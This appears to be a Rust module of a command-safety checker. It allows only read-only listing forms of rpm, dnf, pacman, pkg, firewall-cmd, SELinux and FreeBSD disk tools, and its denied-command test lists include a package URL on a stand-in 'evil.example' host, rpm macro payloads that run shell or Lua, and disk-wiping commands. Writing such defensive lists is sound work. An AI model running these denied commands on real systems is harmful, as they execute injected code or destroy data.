//! Guests that are not Debian (blind corpus 199): the RHEL family's
//! package tools (rpm 4.16–4.19's `rpm`, dnf 4's `dnf`/`yum`), its
//! firewall (firewalld 1.x's `firewall-cmd`) and SELinux's tools
//! (policycoreutils 3.x: `getenforce`, `sestatus`, `getsebool`,
//! `semanage … -l`, `matchpathcon`, `restorecon -n`, `audit2allow`),
//! `grubby`; Arch's pacman 6 (`pacman -Q`, `-T`, `-F` without `-y`,
//! pacman-contrib's `pactree`, `paccache -d`, `expac`); FreeBSD 14's
//! `pkg` 1.20, `sysrc`, `bectl`, `gpart`, `freebsd-version` and
//! OPNsense's `opnsense-version`; Alpine's `lbu` and systemd's
//! `systemd-delta`. Each from its man page; only the listing forms:
//! no transaction, no repository refresh, no cache cleaned, no label
//! or boolean set, no rule added, no file of the caller's choosing
//! written.

use super::*;

/// rpm(8): query (`-q`) and verify (`-V`) modes only, with their
/// selectors and output options. Not `--eval`/`-E`, `--define`/`-D`,
/// `--macros`, `--rcfile`, `--pipe` (a shell command for the output),
/// `--root`, `--dbpath`. (`-i` is `--info` after `-q`, `--install`
/// alone: with a query mode required, rpm either reads it as info or
/// refuses two modes.) Verify runs the packages' own `%verifyscript`,
/// code the system already holds, as `systemctl status` runs its units'.
const RPM: Spec = Spec {
    flags: "qVailcdLsRvfg",
    long: &[
        "query",
        "verify",
        "all",
        "info",
        "list",
        "configfiles",
        "docfiles",
        "licensefiles",
        "state",
        "requires",
        "provides",
        "conflicts",
        "obsoletes",
        "recommends",
        "suggests",
        "supplements",
        "enhances",
        "changelog",
        "changes",
        "last",
        "scripts",
        "triggers",
        "triggerscripts",
        "filetriggers",
        "dump",
        "fileclass",
        "filecaps",
        "filesbypkg",
        "xml",
        "nodigest",
        "nosignature",
        "noghost",
        "noconfig",
        "nodeps",
        "nofiles",
        "nolinkto",
        "nofiledigest",
        "nosize",
        "nouser",
        "nogroup",
        "nomtime",
        "nomode",
        "nordev",
        "nocaps",
        "file",
        "group",
        "whatrequires",
        "whatprovides",
        "whatconflicts",
        "whatobsoletes",
        "whatrecommends",
        "whatsuggests",
        "whatsupplements",
        "whatenhances",
        "verbose",
        "quiet",
        "version",
        "querytags",
    ],
    long_valued: &["qf", "queryformat"],
    checked: &[("qf", tag_format), ("queryformat", tag_format)],
    required: &["q", "V", "query", "verify", "version", "querytags"],
    // (No URL, no package file: an operand that names no installed
    // package and ends in `.rpm` is opened as a package, a URL fetched;
    // review 128.)
    operands: Operands::Names {
        at_most: 64,
        test: |w| !w.contains("://") && !w.to_ascii_lowercase().ends_with(".rpm"),
    },
    ..Spec::GNU
};

/// rpm's tag formatters that only print the tag's value differently.
const FORMATTERS: &[&str] = &[
    "date",
    "day",
    "depflags",
    "deptype",
    "fflags",
    "fstate",
    "hex",
    "octal",
    "perms",
    "shescape",
    "triggertype",
    "vflags",
    "xml",
    "json",
    "arraysize",
    "string",
    "humaniec",
    "humansi",
    "hashalgo",
    "pgpsig",
    "base64",
    "armor",
];

/// An rpm (or dnf repoquery) query format of tags and text only:
/// `%{NAME}`, `%-20{VERSION}`, `%{INSTALLTIME:date}`, `%|EPOCH?{…}|`,
/// `[%{FILENAMES}\n]`, `%%`; no macro (`%(…)` runs a shell, `%{lua:…}`
/// Lua, `%{?x}` expands), whatever rpm expands.
fn tag_format(format: &str) -> bool {
    let mut rest = format;
    while let Some(at) = rest.find('%') {
        let after = &rest[at + 1..];
        let after = after.trim_start_matches(|c: char| c == '-' || c.is_ascii_digit());
        let (tag, tail) = if let Some(r) = after.strip_prefix('%') {
            ("", r)
        } else if let Some(inner) = after.strip_prefix('{') {
            match inner.split_once('}') {
                Some((tag, tail)) => (tag, tail),
                None => return false,
            }
        } else if let Some(inner) = after.strip_prefix('|') {
            match inner.split_once('?') {
                Some((tag, tail)) => (tag, tail),
                None => return false,
            }
        } else {
            return false;
        };
        let (name, kind) = tag.split_once(':').unwrap_or((tag, ""));
        let plain = |w: &str| w.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        // (Not `:expand`, which expands the tag's text as macros, a
        // shell's `%(…)` among them; review 125.)
        let formatter = kind.is_empty() || FORMATTERS.contains(&kind);
        if !plain(name) || !formatter || (name.is_empty() && !kind.is_empty()) {
            return false;
        }
        if !name.is_empty() && !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            return false;
        }
        rest = tail;
    }
    true
}

/// dnf(8), dnf 4 (and `yum`, its name on EL 8 and later): listing
/// commands; the rule in `rules::programs::packages` asks where one
/// would refresh the repositories' metadata (without `-C`).
const DNF: Spec = Spec {
    flags: "Cqv",
    long: &[
        "cacheonly",
        "quiet",
        "verbose",
        "noplugins",
        "version",
        "help",
    ],
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "list|info",
                spec: Some(&DNF_LIST),
            },
            Verb {
                names: "repoquery|rq",
                spec: Some(&DNF_REPOQUERY),
            },
            Verb {
                names: "search|provides|whatprovides|deplist|check-update|repolist|repoinfo",
                spec: Some(&DNF_LISTING),
            },
            Verb {
                names: "updateinfo",
                spec: Some(&DNF_UPDATEINFO),
            },
            Verb {
                names: "history",
                spec: Some(&DNF_HISTORY),
            },
        ],
        bare_ok: false,
    },
    ..Spec::GNU
};

const DNF_LIST: Spec = Spec {
    flags: "Cqv",
    long: &[
        "installed",
        "available",
        "upgrades",
        "updates",
        "extras",
        "obsoletes",
        "recent",
        "all",
        "autoremove",
        "showduplicates",
        "cacheonly",
        "quiet",
        "verbose",
    ],
    ..Spec::GNU
};

const DNF_LISTING: Spec = Spec {
    flags: "Cqv",
    long: &[
        "all",
        "enabled",
        "disabled",
        "showduplicates",
        "cacheonly",
        "quiet",
        "verbose",
    ],
    ..Spec::GNU
};

const DNF_UPDATEINFO: Spec = Spec {
    flags: "Cqv",
    long: &[
        "list",
        "info",
        "summary",
        "security",
        "bugfix",
        "enhancement",
        "newpackage",
        "available",
        "installed",
        "updates",
        "all",
        "cacheonly",
        "quiet",
        "verbose",
    ],
    ..Spec::GNU
};

const DNF_REPOQUERY: Spec = Spec {
    flags: "Cqvli",
    long: &[
        "installed",
        "available",
        "upgrades",
        "userinstalled",
        "unneeded",
        "extras",
        "duplicates",
        "leaves",
        "recent",
        "info",
        "list",
        "requires",
        "provides",
        "conflicts",
        "obsoletes",
        "recommends",
        "suggests",
        "supplements",
        "enhances",
        "depends",
        "resolve",
        "recursive",
        "tree",
        "location",
        "changelogs",
        "deplist",
        "showduplicates",
        "cacheonly",
        "quiet",
        "verbose",
    ],
    long_valued: &[
        "whatrequires",
        "whatprovides",
        "whatdepends",
        "whatconflicts",
        "whatrecommends",
        "whatsuggests",
        "file",
        "qf",
        "queryformat",
        "latest-limit",
        "arch",
    ],
    checked: &[("qf", tag_format), ("queryformat", tag_format)],
    ..Spec::GNU
};

/// `dnf history`: its own database, no repository.
const DNF_HISTORY: Spec = Spec {
    flags: "qv",
    long: &["reverse", "quiet", "verbose"],
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list|info|userinstalled",
            spec: Some(&DNF_HISTORY_READS),
        }],
        bare_ok: true,
    },
    ..Spec::GNU
};

const DNF_HISTORY_READS: Spec = Spec {
    flags: "qv",
    long: &["reverse", "quiet", "verbose"],
    ..Spec::GNU
};

/// pacman(8), pacman 6: the local database's queries (`-Q`), dependency
/// tests (`-T`) and the files database (`-F`), never `-S` (its `-u`,
/// `-c`, `-y`, `-w` install, clean, refresh, download), `-R`, `-U`, `-D`,
/// nor `-y` (`-Fy` downloads the files database).
const PACMAN: Spec = Spec {
    flags: "QTFedtqilkomnsucgvx",
    long: &[
        "query",
        "deptest",
        "files",
        "explicit",
        "deps",
        "unrequired",
        "quiet",
        "info",
        "list",
        "check",
        "owns",
        "foreign",
        "native",
        "search",
        "upgrades",
        "changelog",
        "groups",
        "verbose",
        "regex",
        "machinereadable",
        "noconfirm",
    ],
    required: &["Q", "T", "F", "query", "deptest", "files"],
    ..Spec::GNU
};

/// pactree(8), pacman-contrib: a package's dependency tree (`-s`: the
/// sync databases on disk).
const PACTREE: Spec = Spec {
    flags: "aculrsgo",
    valued: "d",
    long: &[
        "ascii", "color", "unique", "linear", "reverse", "sync", "graph", "optional",
    ],
    long_valued: &["depth"],
    ..Spec::GNU
};

/// expac(1): a format over the local (`-Q`) or sync (`-S`) databases.
const EXPAC: Spec = Spec {
    flags: "QSsgpv1",
    valued: "ldtH",
    long: &[
        "query", "sync", "search", "group", "file", "verbose", "readone",
    ],
    long_valued: &["delim", "listdelim", "timefmt", "humansize"],
    ..Spec::GNU
};

/// paccache(8): `-d` (`--dryrun`) only says what `-r` would remove.
const PACCACHE: Spec = Spec {
    flags: "duvqz",
    valued: "k",
    long: &["dryrun", "uninstalled", "verbose", "quiet", "null"],
    long_valued: &["keep"],
    required: &["d", "dryrun"],
    operands: Operands::None,
    ..Spec::GNU
};

/// pkg(8), FreeBSD: the local database's reads. Not `search`, `rquery`,
/// `stats -r` or `version -R` without `-U` (each refreshes the remote
/// catalogue), nor `audit -F` (fetches the vulnerability database).
const PKG: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "info",
                spec: Some(&PKG_INFO),
            },
            Verb {
                names: "which",
                spec: Some(&PKG_WHICH),
            },
            Verb {
                names: "query",
                spec: Some(&PKG_QUERY),
            },
            Verb {
                names: "audit",
                spec: Some(&PKG_AUDIT),
            },
            Verb {
                names: "version",
                spec: Some(&PKG_VERSION),
            },
            Verb {
                names: "lock",
                spec: Some(&PKG_LOCKED),
            },
            // (With `-U` only: no catalogue refresh; review 125.)
            Verb {
                names: "search",
                spec: Some(&PKG_SEARCH),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

const PKG_INFO: Spec = Spec {
    flags: "aAbBCdDeEfgiIklopqrRsx",
    long: &[
        "all",
        "annotations",
        "provided-shlibs",
        "required-shlibs",
        "case-sensitive",
        "dependencies",
        "pkg-message",
        "exists",
        "show-name-only",
        "full",
        "glob",
        "case-insensitive",
        "comment",
        "locked",
        "list-files",
        "origin",
        "prefix",
        "quiet",
        "required-by",
        "size",
        "regex",
        "raw",
    ],
    ..Spec::GNU
};

const PKG_WHICH: Spec = Spec {
    flags: "gopqm",
    long: &["glob", "origin", "path-search", "quiet", "show-match"],
    ..Spec::GNU
};

const PKG_QUERY: Spec = Spec {
    flags: "aCgix",
    long: &["all", "case-sensitive", "glob", "case-insensitive", "regex"],
    valued: "e",
    long_valued: &["evaluate"],
    ..Spec::GNU
};

const PKG_AUDIT: Spec = Spec {
    flags: "qrR",
    long: &["quiet", "recursive", "raw"],
    ..Spec::GNU
};

/// `pkg version` against the INDEX file (`-I`) or with the remote
/// catalogue left as it is (`-U`). Not `-P`, nor `-R` or no source
/// without `-U`: pkg tries INDEX, the ports tree, then the remote
/// catalogue, which it refreshes from the internet unless `-U`, and `-R`
/// wins over `-P` (review 128). (The ports tree's fallback runs `make
/// -V` over the ports' own Makefiles, code the system holds, as `rpm -V`
/// runs the packages' verify scripts.)
const PKG_VERSION: Spec = Spec {
    flags: "hIoqvRU",
    valued: "lLeEgxnO",
    long: &[
        "index",
        "origin",
        "quiet",
        "remote",
        "no-repo-update",
        "verbose",
    ],
    long_valued: &["like", "not-like", "match", "glob", "regex"],
    required: &["I", "index", "U", "no-repo-update"],
    ..Spec::GNU
};

const PKG_SEARCH: Spec = Spec {
    flags: "UcCdDefgiopqrSx",
    long: &[
        "no-repo-update",
        "comment",
        "case-sensitive",
        "depends-on",
        "description",
        "exact",
        "full",
        "glob",
        "case-insensitive",
        "origins",
        "prefix",
        "quiet",
        "raw",
        "regex",
    ],
    required: &["U", "no-repo-update"],
    ..Spec::GNU
};

/// geom(8), FreeBSD: the GEOM classes' providers listed or their status.
const GEOM: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "disk|part|label|eli|mirror|stripe|raid|multipath|concat|md|nop|uzip",
            spec: Some(&GEOM_CLASS),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};
const GEOM_CLASS: Spec = Spec {
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list|status",
            spec: Some(&GPART_SHOW),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// sesearch(1), setools 4: the loaded policy's rules searched.
const SESEARCH: Spec = Spec {
    flags: "ASdR",
    long: &[
        "allow",
        "allowxperm",
        "auditallow",
        "dontaudit",
        "neverallow",
        "type_trans",
        "type_change",
        "type_member",
        "role_allow",
        "role_trans",
        "range_trans",
        "all",
        "direct",
        "regex",
    ],
    long_valued: &["source", "target", "class", "perms", "bool"],
    valued: "stcpb",
    ..Spec::GNU
};

/// `pkg lock -l`: the locked packages (an operand would lock it too).
const PKG_LOCKED: Spec = Spec {
    flags: "lq",
    long: &["show-locked", "quiet"],
    required: &["l", "show-locked"],
    operands: Operands::None,
    ..Spec::GNU
};

/// firewall-cmd(1), firewalld 1.x: the state, the zones, policies,
/// services and ipsets, listed, queried or shown, at run time or as
/// saved (`--permanent`). Python's argparse takes a prefix of a long
/// option: only the names as written are listed, and an exact name wins.
const FIREWALL_CMD: Spec = Spec {
    long: &[
        "state",
        "permanent",
        "check-config",
        "version",
        "help",
        "quiet",
        "get-default-zone",
        "get-active-zones",
        "get-active-policies",
        "get-zones",
        "get-policies",
        "get-services",
        "get-icmptypes",
        "get-ipsets",
        "get-ipset-types",
        "get-helpers",
        "get-log-denied",
        "get-automatic-helpers",
        "get-target",
        "get-description",
        "get-short",
        "get-ports",
        "get-protocols",
        "get-source-ports",
        "get-entries",
        "get-destinations",
        "get-includes",
        "list-all",
        "list-all-zones",
        "list-all-policies",
        "list-services",
        "list-ports",
        "list-protocols",
        "list-source-ports",
        "list-rich-rules",
        "list-forward-ports",
        "list-interfaces",
        "list-sources",
        "list-icmp-blocks",
        "query-masquerade",
        "query-icmp-block-inversion",
        "query-panic",
        "query-lockdown",
        "list-lockdown-whitelist-commands",
        "list-lockdown-whitelist-contexts",
        "list-lockdown-whitelist-uids",
        "list-lockdown-whitelist-users",
    ],
    long_valued: &[
        "zone",
        "policy",
        "service",
        "ipset",
        "icmptype",
        "helper",
        "get-zone-of-interface",
        "get-zone-of-source",
        "get-policy-of-interface",
        "query-service",
        "query-port",
        "query-protocol",
        "query-source-port",
        "query-rich-rule",
        "query-icmp-block",
        "query-interface",
        "query-source",
        "query-forward-port",
        "query-entry",
        "info-service",
        "info-zone",
        "info-ipset",
        "info-icmptype",
        "info-policy",
        "info-helper",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// firewall-offline-cmd(1): firewall-cmd's listings of the saved
/// configuration, one required. Bare, it migrates
/// system-config-firewall's settings, and `--service` without a service
/// action is lokkit's, which adds the service to the default zone: both
/// write the permanent configuration (review 128).
const FIREWALL_OFFLINE: Spec = Spec {
    long_valued: &[
        "zone",
        "policy",
        "ipset",
        "icmptype",
        "helper",
        "get-zone-of-interface",
        "get-zone-of-source",
        "get-policy-of-interface",
        "query-service",
        "query-port",
        "query-protocol",
        "query-source-port",
        "query-rich-rule",
        "query-icmp-block",
        "query-interface",
        "query-source",
        "query-forward-port",
        "query-entry",
        "info-service",
        "info-zone",
        "info-ipset",
        "info-icmptype",
        "info-policy",
        "info-helper",
    ],
    required: &[
        "get-default-zone",
        "get-zones",
        "get-policies",
        "get-services",
        "get-icmptypes",
        "get-ipsets",
        "get-helpers",
        "get-log-denied",
        "list-all",
        "list-all-zones",
        "list-all-policies",
        "list-services",
        "list-ports",
        "list-protocols",
        "list-source-ports",
        "list-rich-rules",
        "list-forward-ports",
        "list-interfaces",
        "list-sources",
        "list-icmp-blocks",
        "query-masquerade",
        "check-config",
        "get-zone-of-interface",
        "get-zone-of-source",
        "query-service",
        "query-port",
        "info-service",
        "info-zone",
        "info-ipset",
        "info-policy",
    ],
    ..FIREWALL_CMD
};

/// getenforce(8), sestatus(8) (`-v`, `-b`), getsebool(8).
const SESTATUS: Spec = Spec {
    flags: "vb",
    operands: Operands::None,
    ..Spec::POSIX
};

const GETSEBOOL: Spec = Spec {
    flags: "a",
    ..Spec::POSIX
};

/// semanage(8): each object type's listing (`-l`, `-C` for the local
/// changes only, `-n` without the heading).
const SEMANAGE: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "port|fcontext|boolean|login|user|module|permissive|interface|node|ibpkey|ibendport",
            spec: Some(&SEMANAGE_LIST),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

const SEMANAGE_LIST: Spec = Spec {
    flags: "lCn",
    long: &["list", "locallist", "noheading"],
    required: &["l", "list"],
    operands: Operands::None,
    ..Spec::GNU
};

/// matchpathcon(8): the label policy gives a path (`-V`: whether the
/// file has it).
const MATCHPATHCON: Spec = Spec {
    flags: "nNV",
    ..Spec::POSIX
};

/// restorecon(8) with `-n`: which labels it would restore, none changed.
const RESTORECON: Spec = Spec {
    flags: "nvRrFipx",
    valued: "e",
    required: &["n"],
    ..Spec::POSIX
};

/// audit2allow(1): the rules that would allow the denials it reads (the
/// audit log, `dmesg`, or its input); not `-M` (writes a module's files).
const AUDIT2ALLOW: Spec = Spec {
    flags: "abdwlDrRe",
    long: &[
        "all",
        "boot",
        "dmesg",
        "why",
        "lastreload",
        "dontaudit",
        "requires",
        "reference",
    ],
    operands: Operands::None,
    ..Spec::GNU
};

/// grubby(8): the default boot entry and the entries' settings.
const GRUBBY: Spec = Spec {
    long: &[
        "default-kernel",
        "default-index",
        "default-title",
        "help",
        "version",
    ],
    long_valued: &["info"],
    operands: Operands::None,
    ..Spec::GNU
};

/// sysrc(8), FreeBSD: rc.conf's values by name (`NAME=VALUE` sets one,
/// `-x` removes it; `-f`, `-j`, `-R` read another file or system).
const SYSRC: Spec = Spec {
    flags: "aAdeFinNqv",
    operands: Operands::Names {
        at_most: 32,
        test: rc_variable_name,
    },
    ..Spec::POSIX
};

fn rc_variable_name(word: &str) -> bool {
    !word.is_empty()
        && word.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && word.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// bectl(8), FreeBSD: boot environments listed.
const BECTL: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "list",
            spec: Some(&BECTL_LIST),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

const BECTL_LIST: Spec = Spec {
    flags: "aDHs",
    valued: "cC",
    operands: Operands::None,
    ..Spec::POSIX
};

/// gpart(8), FreeBSD: partition tables shown, listed or their status.
const GPART: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "show|list|status",
            spec: Some(&GPART_SHOW),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

const GPART_SHOW: Spec = Spec {
    flags: "lrpasg",
    ..Spec::POSIX
};

/// A device's name for the FreeBSD reports below (`ada0`, `da3`,
/// `nvme0`, `ses0`, `pass2`, `nda0`), or a bus:target:lun.
fn freebsd_device(word: &str) -> bool {
    !word.is_empty()
        && !word.starts_with('-')
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '/' | '.'))
}

/// (camcontrol and its kin read the device first, their options after
/// it: `camcontrol inquiry da3 -S`.)
const FREEBSD_DEVICE_REPORT: Spec = Spec {
    flags: "vDSRqsbhNx",
    operands: Operands::Names {
        at_most: 1,
        test: freebsd_device,
    },
    ..Spec::GNU
};

/// camcontrol(8), FreeBSD 14: the devices listed, a disk's identity,
/// inquiry data and capacity. Not `tur`, `start`, `stop`, `eject`,
/// `rescan`, `reset`, `format`, `sanitize`, `security`, `modepage`,
/// `cmd`, `fwdownload` or `negotiate`.
const CAMCONTROL: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "devlist|periphlist",
                spec: Some(&FREEBSD_DEVICE_REPORT),
            },
            Verb {
                names: "identify|inquiry|readcap",
                spec: Some(&FREEBSD_DEVICE_REPORT),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// glabel(8): the labels' status and list (as `geom label`).
const GLABEL: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "status|list",
            spec: Some(&GPART_SHOW),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// sesutil(8): enclosures' maps and status. Not `locate` or `fault`
/// (their LEDs set).
const SESUTIL: Spec = Spec {
    permute: false,
    valued: "u",
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "map|status|show",
            spec: Some(&FREEBSD_DEVICE_REPORT),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// nvmecontrol(8): controllers and namespaces listed and identified.
/// Not `logpage` (vendor pages), `format`, `sanitize`, `reset`,
/// `firmware`, `power`, `ns`, `passthru`.
const NVMECONTROL: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[
            Verb {
                names: "devlist",
                spec: Some(&FREEBSD_DEVICE_REPORT),
            },
            Verb {
                names: "identify",
                spec: Some(&FREEBSD_DEVICE_REPORT),
            },
        ],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// jls(8): the jails and their parameters (`-j JAIL` one of them). Not
/// `-s` (parameters as `jail -c` takes them, which a reader may run).
const JLS: Spec = Spec {
    flags: "dhNnqv",
    valued: "j",
    operands: Operands::Read,
    ..Spec::POSIX
};

/// swapinfo(8): the swap devices' use.
const SWAPINFO: Spec = Spec {
    flags: "hkmg",
    operands: Operands::None,
    ..Spec::POSIX
};

/// pciconf(8) `-l`: the PCI devices listed (`-v` vendors, `-b` BARs,
/// `-c` capabilities, `-e` errors). Not `-r`/`-w` (registers read or
/// written: reading some acts) nor `-a` with a selector.
const PCICONF: Spec = Spec {
    flags: "lvbceB",
    required: &["l"],
    operands: Operands::AtMost(1),
    ..Spec::POSIX
};

/// ctladm(8): the CAM target layer's iSCSI sessions, ports, LUNs and
/// devices listed. Not `islogout`, `isterminate`, `remove`, `create`.
const CTLADM: Spec = Spec {
    permute: false,
    operands: Operands::Verbs {
        verbs: &[Verb {
            names: "islist|portlist|lunlist|devlist",
            spec: Some(&FREEBSD_DEVICE_REPORT),
        }],
        bare_ok: false,
    },
    ..Spec::ORDERED
};

/// freebsd-version(1) and opnsense-version(8): the versions installed.
const FREEBSD_VERSION: Spec = Spec {
    flags: "kru",
    operands: Operands::None,
    ..Spec::POSIX
};

const OPNSENSE_VERSION: Spec = Spec {
    flags: "AafHNnOvw",
    operands: Operands::None,
    ..Spec::POSIX
};

/// systemd-delta(1): the configuration files that override others,
/// named only (`--diff=false`): its diffs print the units' lines,
/// `Environment=` credentials among them (review 125).
const SYSTEMD_DELTA: Spec = Spec {
    long: &["no-pager", "help", "version"],
    // (`--diff` takes its value only after `=`: `--diff false` turns the
    // diffs on, `false` an operand; review 128.)
    long_valued: &["type"],
    long_optional: &["diff"],
    checked: &[("diff", |v| matches!(v, "false" | "no" | "0" | "off"))],
    required: &["diff"],
    ..Spec::GNU
};

/// ldconfig(8), glibc 2.36: `-p` prints the cache (blind corpus 203);
/// without it ldconfig writes the cache and the libraries' links.
const LDCONFIG: Spec = Spec {
    flags: "pv",
    long: &["print-cache", "verbose"],
    required: &["p", "print-cache"],
    operands: Operands::None,
    ..Spec::GNU
};

/// ucfq(1), ucf 3.0: which configuration files ucf tracks for a package
/// or a file, and their state, read from its registry. Not `--debug`
/// (an optional value), `--state-dir` (another registry).
const UCFQ: Spec = Spec {
    flags: "hwnv",
    long: &["help", "with-colons", "no-action", "verbose"],
    ..Spec::GNU
};

pub(super) const ENTRIES: &[Entry] = &[
    Entry {
        names: &["ucfq"],
        spec: &UCFQ,
        read_only: &[
            "ucfq openssh-server",
            "ucfq -w /etc/default/grub",
            "ucfq --with-colons grub-pc",
        ],
        not: &["ucfq --state-dir /tmp/x grub-pc"],
    },
    Entry {
        names: &["camcontrol"],
        spec: &CAMCONTROL,
        read_only: &[
            "camcontrol devlist",
            "camcontrol identify ada0",
            "camcontrol inquiry da3 -S",
        ],
        not: &[
            "camcontrol sanitize da6 -a block -y",
            "camcontrol stop da1",
            "camcontrol eject cd0",
        ],
    },
    Entry {
        names: &["glabel"],
        spec: &GLABEL,
        read_only: &["glabel status", "glabel list"],
        not: &["glabel label x da0", "glabel destroy x"],
    },
    Entry {
        names: &["sesutil"],
        spec: &SESUTIL,
        read_only: &["sesutil map", "sesutil status"],
        not: &["sesutil locate da3 on", "sesutil fault all on"],
    },
    Entry {
        names: &["nvmecontrol"],
        spec: &NVMECONTROL,
        read_only: &["nvmecontrol devlist", "nvmecontrol identify nvme0"],
        not: &["nvmecontrol format nvme0", "nvmecontrol reset nvme0"],
    },
    Entry {
        names: &["jls"],
        spec: &JLS,
        read_only: &["jls", "jls -v", "jls -j web name path"],
        not: &["jls -s"],
    },
    Entry {
        names: &["swapinfo"],
        spec: &SWAPINFO,
        read_only: &["swapinfo -h"],
        not: &["swapinfo -z"],
    },
    Entry {
        names: &["pciconf"],
        spec: &PCICONF,
        read_only: &["pciconf -lv", "pciconf -l -c"],
        not: &["pciconf -r pci0:0:2:0 0x10", "pciconf -w pci0:0:2:0 0x10 0"],
    },
    Entry {
        names: &["ctladm"],
        spec: &CTLADM,
        read_only: &["ctladm islist", "ctladm lunlist"],
        not: &["ctladm islogout -a", "ctladm remove -b block -l 0"],
    },
    Entry {
        names: &["ldconfig"],
        spec: &LDCONFIG,
        read_only: &["ldconfig -p", "ldconfig --print-cache"],
        not: &["ldconfig", "ldconfig -v", "ldconfig -p -r /mnt"],
    },
    Entry {
        names: &["rpm"],
        spec: &RPM,
        read_only: &[
            "rpm -qa --last",
            "rpm -qi openssh-server",
            "rpm -ql httpd",
            "rpm -qf /usr/sbin/sshd",
            "rpm -q --changelog openssl",
            "rpm -V openssh-server",
            "rpm -qa --qf '%{NAME}-%{VERSION}-%{RELEASE}.%{ARCH}\\n' 'kernel*'",
            "rpm -q --whatrequires openssl-libs",
        ],
        not: &[
            "rpm -q http://evil.example/x.rpm",
            "rpm -qi /tmp/x.rpm",
            "rpm -i x.rpm",
            "rpm -e nginx",
            "rpm -Uvh x.rpm",
            "rpm --eval '%(id)'",
            "rpm -q --qf '%(id)' bash",
            "rpm -q --qf '%{lua:os.execute(\"id\")}' bash",
            "rpm -qa --pipe 'sh'",
            "rpm -D '_dbpath /tmp' -qa",
            "rpm --rebuilddb",
            "rpm --import key.asc",
            "rpm -qa --root /mnt",
            "rpm -q --qf '%{DESCRIPTION:expand}' bash",
        ],
    },
    Entry {
        names: &["dnf", "yum"],
        spec: &DNF,
        read_only: &[
            "dnf -C list installed 'kernel*'",
            "dnf -C list --upgrades",
            "dnf history info last",
            "dnf history",
            "dnf -C repoquery --installed --whatrequires openssl-libs",
            "dnf repoquery -C --installed --qf '%{name}-%{version}'",
            "yum -C repolist",
            "dnf list installed",
            "dnf info --installed openssh-server",
        ],
        not: &[
            "dnf list --installed --available",
            "dnf list",
            "dnf check-update",
            "dnf install nginx",
            "dnf -C install nginx",
            "dnf makecache",
            "dnf history undo 12",
            "dnf -C --setopt=x=y list",
            "dnf -C repoquery --qf '%(id)' bash",
        ],
    },
    Entry {
        names: &["pacman"],
        spec: &PACMAN,
        read_only: &[
            "pacman -Qe",
            "pacman -Qdtq",
            "pacman -Qm",
            "pacman -Qi linux",
            "pacman -Ql openssh",
            "pacman -Qo /usr/bin/dig",
            "pacman -Qkk openssh",
            "pacman -Qu",
            "pacman -T 'openssl>=3'",
            "pacman -Fl openssh",
        ],
        not: &[
            "pacman -Syu",
            "pacman -S nginx",
            "pacman -Ss qemu",
            "pacman -R nginx",
            "pacman -Scc",
            "pacman -Fy",
            "pacman -U x.pkg.tar.zst",
            "pacman -D --asdeps x",
            "pacman -Q --dbpath /tmp",
        ],
    },
    Entry {
        names: &["pactree"],
        spec: &PACTREE,
        read_only: &["pactree -r -d 1 openssl", "pactree -u linux"],
        not: &["pactree --config /tmp/x linux"],
    },
    Entry {
        names: &["expac"],
        spec: &EXPAC,
        read_only: &["expac -H M '%m\\t%n'", "expac -Q '%n %v'"],
        not: &["expac --config /tmp/x '%n'"],
    },
    Entry {
        names: &["paccache"],
        spec: &PACCACHE,
        read_only: &["paccache -dk2", "paccache -d -u"],
        not: &["paccache -rk1", "paccache -m /tmp/old", "paccache -k2"],
    },
    Entry {
        names: &["pkg"],
        spec: &PKG,
        read_only: &[
            "pkg info",
            "pkg info -l nginx",
            "pkg which /usr/local/sbin/nginx",
            "pkg info -r openssl",
            "pkg query -e '%a = 0' '%n-%v'",
            "pkg audit",
            "pkg version -vRUL=",
            "pkg lock -l",
            "pkg search -U nginx",
        ],
        not: &[
            "pkg install nginx",
            "pkg delete nginx",
            "pkg audit -F",
            "pkg version -vR",
            "pkg version -vPR",
            "pkg version --ports --remote",
            "pkg search nginx",
            "pkg lock nginx",
            "pkg lock -l nginx",
            "pkg upgrade -n",
        ],
    },
    Entry {
        names: &["firewall-cmd"],
        spec: &FIREWALL_CMD,
        read_only: &[
            "firewall-cmd --state",
            "firewall-cmd --get-active-zones",
            "firewall-cmd --list-all",
            "firewall-cmd --zone=public --list-services",
            "firewall-cmd --permanent --zone=public --list-all",
            "firewall-cmd --zone=internal --list-rich-rules",
            "firewall-cmd --query-port=9100/tcp",
            "firewall-cmd --info-service=cockpit",
            "firewall-cmd --check-config",
        ],
        not: &[
            "firewall-cmd --reload",
            "firewall-cmd --panic-on",
            "firewall-cmd --add-port=9100/tcp",
            "firewall-cmd --zone=public --remove-service=ssh",
            "firewall-cmd --runtime-to-permanent",
            "firewall-cmd --set-default-zone=drop",
            "firewall-cmd --rel",
        ],
    },
    Entry {
        names: &["firewall-offline-cmd"],
